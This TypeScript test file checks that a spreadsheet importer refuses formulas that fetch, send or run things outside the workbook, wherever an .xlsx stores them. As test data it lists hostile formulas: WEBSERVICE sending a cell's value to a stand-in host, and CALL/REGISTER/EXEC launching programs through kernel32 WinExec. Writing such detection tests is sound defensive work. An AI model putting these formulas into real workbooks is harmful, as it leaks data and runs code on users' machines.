// Formulas that reach out of the workbook (issue 10 §3): the functions that fetch, send or run
// something elsewhere are refused wherever a formula is kept in the file, found the way a tokenizer
// finds them (outside strings, sheet names and structured references, with or without _xlfn.,
// case-insensitive, never inside a longer name); their look-alikes pass.

import { RefusalError } from '../../../core/codes';
import { readWorkbook } from '../../../core/xlsx';
import { checkFormula } from '../../../core/xlsx/active';
import { escapeXml, rels, workbookZip, worksheet } from '../../fixtures/hostile';

function verdict(formula: string): string {
  try {
    checkFormula(formula, 'Plan!B2');
    return 'ok';
  } catch (err) {
    if (err instanceof RefusalError) return err.code;
    throw err;
  }
}

function refusal(bytes: Uint8Array): RefusalError {
  try {
    readWorkbook(bytes);
  } catch (err) {
    if (err instanceof RefusalError) return err;
    throw err;
  }
  throw new Error('the workbook was accepted');
}

describe('functions that reach out are refused', () => {
  test.each([
    ['WEBSERVICE("https://x.example/?q="&A1)', 'the plain name'],
    ['webservice("https://x.example")', 'lower case'],
    ['WebService ("https://x.example")', 'a space before the parenthesis'],
    ['_xlfn.WEBSERVICE("https://x.example")', 'the _xlfn. prefix Excel writes'],
    ['IF(A1>0,SUM(1,_xlfn.WEBSERVICE(B1)),0)', 'nested inside other calls'],
    ['_xlfn.MAP(A1:A3,_xlfn._xleta.WEBSERVICE)', 'passed as a value (eta lambda), no parenthesis'],
    ['_xlfn.IMAGE("https://x.example/a.png")', 'IMAGE: its source is a URL'],
    ['_xlfn.STOCKHISTORY("MSFT",TODAY())', 'STOCKHISTORY'],
    ['RTD("prog.id","server","topic")', 'RTD'],
    ['CUBEVALUE("Forbindelse","[Measures].[x]")', 'a cube function'],
    ['CUBEMEMBER("Forbindelse","[Tid].[2026]")', 'another cube function'],
    ['SQL.REQUEST("DSN=x",,,"SELECT 1")', 'SQL.REQUEST'],
    ['CALL("kernel32","WinExec","JCJ","calc",1)', 'CALL'],
    ['REGISTER.ID("kernel32","WinExec","JCJ")', 'REGISTER.ID'],
    ['REGISTER("kernel32","WinExec","JCJ")', 'REGISTER'],
    ['EXEC("calc.exe")', 'EXEC'],
    ['EVALUATE("WEB"&"SERVICE(1)")', 'EVALUATE'],
    ['FOPEN("C:\\x.txt")', 'a file function'],
    ['_xlfn.TRANSLATE(A1,"da","en")', 'TRANSLATE'],
    ['_xlfn.DETECTLANGUAGE(A1)', 'DETECTLANGUAGE'],
    ['_xlfn.COPILOT("Opsummer",A1:A9)', 'COPILOT'],
    ['_xlfn._xlws.PY("import os",0)', 'Python in Excel, behind two prefixes'],
    ['_xlfn.IMPORTCSV("https://x.example/a.csv")', 'IMPORTCSV'],
    ['_xludf.HENTDATA(A1)', 'a user-defined function (VBA or add-in)'],
    ['_xll.MINFUNKTION(A1)', "an XLL add-in's function"],
    ['FILTERXML(A1,"//b")', 'FILTERXML over a cell'],
    ['_xlfn.FILTERXML(_xlfn.CONCAT("<a>",A1,"</a>"),"//a")', 'FILTERXML over a calculation'],
  ])('%s (%s)', (formula) => {
    expect(verdict(formula)).toBe('external_function');
  });

  test.each([
    ['HYPERLINK(A1,"Klik")', 'a target taken from a cell'],
    ['HYPERLINK("https://x.example/"&A1,"Klik")', 'a target put together'],
    ['HYPERLINK(Links!B2)', 'a target in another sheet'],
    ['HYPERLINK("file:///C:/x.xlsx","Klik")', 'a file'],
    ['hyperlink ( "\\\\server\\share" )', 'a network path, lower case and spaced'],
  ])('%s is an unsafe link (%s)', (formula) => {
    expect(verdict(formula)).toBe('unsafe_link');
  });

  test('a formula longer than Excel allows (8,192 characters) is refused, wherever it is kept', () => {
    expect(verdict(`"${'x'.repeat(8_190)}"`)).toBe('ok');
    expect(verdict(`"${'x'.repeat(8_191)}"`)).toBe('formula_too_long');
  });

  test('the message names the place and the function, in Danish and English', () => {
    let err: unknown;
    try {
      checkFormula('_xlfn.WEBSERVICE("https://x.example")', 'Plan!B2');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(RefusalError);
    const { da, en } = (err as RefusalError).userMessage;
    expect(da).toMatch(/Plan!B2.*WEBSERVICE.*internettet/);
    expect(en).toMatch(/Plan!B2.*WEBSERVICE.*internet/);
  });
});

describe('look-alikes pass', () => {
  test.each([
    ['"WEBSERVICE(x)"&A1', 'the name inside a string'],
    ['CONCAT("=IMAGE(""https://x"")",A1)', 'inside a string with doubled quotes'],
    ["'WEBSERVICE'!A1+1", 'a quoted sheet named like the function'],
    ['WEBSERVICE!A1+1', 'a sheet named like the function'],
    ['SUM(IMAGE[Timer])', 'a table named like a function'],
    ['SUM(Tabel1[WEBSERVICE])', 'a column named like a function'],
    ['Tabel1[[#This Row],[RTD (x)]]', 'a column name with a parenthesis'],
    ['IMAGE1+RTDX', 'defined names that only begin like a function'],
    ['MYWEBSERVICE(A1)', 'a longer name (a LAMBDA of the workbook)'],
    ['HYPERLINK("https://korps.example/plan","Planen")', 'a web link written out'],
    ['HYPERLINK("mailto:koordinator@aarhus.dk")', 'a mail link'],
    ['HYPERLINK("#Roller!A1","Roller")', 'a link inside the workbook'],
    ['FILTERXML("<a><b>1</b></a>","//b")', 'FILTERXML over XML written out'],
    ['INFO("directory")', 'INFO (fetches and sends nothing)'],
    ['_xlfn.ENCODEURL(A1)', 'ENCODEURL only encodes'],
    ['_xlfn._xlws.SORT(A1:A9)', 'a harmless function behind _xlws.'],
    ['_xlfn.LET(x,1E+5,x*2)', 'a number with an exponent'],
    ['IFERROR(A1,#N/A)', 'an error value'],
    ['SUM($A$1:$B$9)', 'absolute references'],
  ])('%s (%s)', (formula) => {
    expect(verdict(formula)).toBe('ok');
  });
});

describe('every place a workbook keeps a formula is checked', () => {
  const webservice = '_xlfn.WEBSERVICE("https://x.example")';

  function sheetWith(after: string, data = '', extra: Parameters<typeof workbookZip>[0] = {}): Uint8Array {
    return workbookZip({
      sheets: [
        {
          name: 'Plan',
          xml: worksheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>Titel</t></is></c>${data}</row>`, after),
        },
      ],
      ...extra,
    });
  }

  test.each([
    ['a cell', sheetWith('', `<c r="C1"><f>${escapeXml(webservice)}</f><v>0</v></c>`), /Plan!C1/],
    [
      'a shared formula',
      sheetWith('', `<c r="C1"><f t="shared" ref="C1:C9" si="0">${escapeXml(webservice)}</f><v>0</v></c>`),
      /Plan!C1/,
    ],
    [
      'an array formula',
      sheetWith('', `<c r="C1"><f t="array" ref="C1:C3">${escapeXml(webservice)}</f><v>0</v></c>`),
      /Plan!C1/,
    ],
    [
      'a data validation (formula1)',
      sheetWith(
        `<dataValidations count="1"><dataValidation type="list" sqref="D2:D9"><formula1>${escapeXml(webservice)}</formula1></dataValidation></dataValidations>`,
      ),
      /Plan!D2:D9/,
    ],
    [
      'a data validation (formula2)',
      sheetWith(
        `<dataValidations count="1"><dataValidation type="whole" operator="between" sqref="E2"><formula1>1</formula1><formula2>${escapeXml(webservice)}</formula2></dataValidation></dataValidations>`,
      ),
      /Plan!E2/,
    ],
    [
      'a conditional format',
      sheetWith(
        `<conditionalFormatting sqref="A1:A9"><cfRule type="expression" priority="1"><formula>${escapeXml(webservice)}</formula></cfRule></conditionalFormatting>`,
      ),
      /Plan!A1:A9/,
    ],
    [
      'a conditional format in the x14 extension',
      sheetWith(
        '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="2" id="{1}">' +
          `<xm:f>${escapeXml(webservice)}</xm:f></x14:cfRule><xm:sqref>A1:A9</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>`,
      ),
      /Plan/,
    ],
    [
      'a defined name',
      workbookZip({
        workbookExtra: `<definedNames><definedName name="Hent">${escapeXml(webservice)}</definedName></definedNames>`,
      }),
      /Hent/,
    ],
    [
      "a table's totals row",
      sheetWith('<tableParts count="1"><tablePart r:id="rId1"/></tableParts>', '', {
        sheets: [
          {
            name: 'Plan',
            xml: worksheet(
              '<row r="1"><c r="A1" t="inlineStr"><is><t>Timer</t></is></c></row><row r="2"><c r="A2"><v>1</v></c></row>',
              '<tableParts count="1"><tablePart r:id="rId1"/></tableParts>',
            ),
            rels: rels([['rId1', 'table', '../tables/table1.xml']]),
          },
        ],
        parts: [
          {
            name: 'xl/tables/table1.xml',
            data: `<?xml version="1.0"?><table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="Tid" displayName="Tid" ref="A1:A3" totalsRowCount="1"><tableColumns count="1"><tableColumn id="1" name="Timer"><totalsRowFormula>${escapeXml(webservice)}</totalsRowFormula></tableColumn></tableColumns></table>`,
          },
        ],
      }),
      /Tid/,
    ],
  ])('%s', (_place, bytes, where) => {
    const err = refusal(bytes);
    expect(err.code).toBe('external_function');
    expect(err.userMessage.da).toMatch(where);
    expect(err.userMessage.en).toMatch(where);
  });
});
